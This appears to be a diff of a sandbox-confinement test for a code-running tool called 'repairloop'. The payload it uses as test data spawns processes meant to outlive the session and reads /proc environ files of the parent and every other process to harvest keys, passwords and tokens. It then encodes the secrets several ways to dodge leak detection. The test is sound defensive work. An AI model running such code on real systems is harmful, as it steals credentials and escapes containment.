@@ -70,12 +70,19 @@ _try("setsid", lambda: _sp.Popen([_sys.executable, "-c", "import time; time.slee
                                  start_new_session=True))
 _try("double_fork", lambda: _sp.run(["/bin/sh", "-c", "(setsid sleep 120 {mark} &) &"], timeout=10))
 _found = list(_os.environ.items())
-for _path in _glob.glob("/proc/*/environ"):
+_pids, _pid = [], _os.getppid()
+while _pid > 1 and len(_pids) < 6:  # the ancestors first (repairloop itself), then every process
+    _pids.append(str(_pid))
+    try:
+        _pid = int(open("/proc/%d/stat" % _pid).read().rsplit(")", 1)[1].split()[1])
+    except (OSError, ValueError, IndexError):
+        break
+for _path in ["/proc/%s/environ" % p for p in _pids] + _glob.glob("/proc/*/environ"):
     try:
         _found += [tuple(e.split("=", 1)) for e in open(_path, "rb").read().decode("latin-1").split("\\0") if "=" in e]
     except OSError:
         pass
-_found = sorted({{v for k, v in _found if k.endswith(("_KEY", "PASSWORD", "_TOKEN", "SECRET"))}})
+_found = list(dict.fromkeys(v for k, v in _found if k.endswith(("_KEY", "PASSWORD", "_TOKEN", "SECRET"))))
 _LEAK = " ".join(
     _b64.b64encode(v.encode()).decode() + " " + v.encode().hex() + " " + v[::-1] + " "
     + v[: len(v) // 2] + " + " + v[len(v) // 2:] for v in _found)
@@ -212,7 +219,8 @@ def test_the_same_attacks_unconfined_reach_the_host_and_the_run_says_so(make_pro
     # the checks above have teeth: unconfined, the same code gets out
     assert left["vartmp"] and left["connections"] >= 1 and left["alive"]
     # filtered out of the test's environment, but read from repairloop's own /proc/<pid>/environ
-    assert base64.b64encode(SECRET_OTHER.encode()).decode() in str(left["requests"])
+    assert any(base64.b64encode(secret.encode()).decode() in str(left["requests"])
+               for secret in (SECRET_KEY, SECRET_OTHER))
     assert not left["same_repo"]
 
 
